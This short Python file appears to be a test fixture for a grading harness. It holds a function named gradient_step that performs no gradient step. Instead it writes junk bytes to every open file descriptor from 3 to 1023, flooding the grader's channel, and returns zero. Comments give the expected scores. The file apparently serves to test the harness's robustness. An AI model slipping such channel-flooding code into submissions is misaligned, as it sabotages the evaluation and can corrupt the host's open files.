# Floods the channel with bytes that are no frame.
# deserves: gradient_step=0 descend=3 linear=3

# %% gradient_step
import os


def gradient_step(w, g, lr):
    for descriptor in range(3, 1024):
        try:
            os.write(descriptor, b"{[" * 4096 + b"\x00\xff" * 4096)
        except OSError:
            continue
    return w * 0
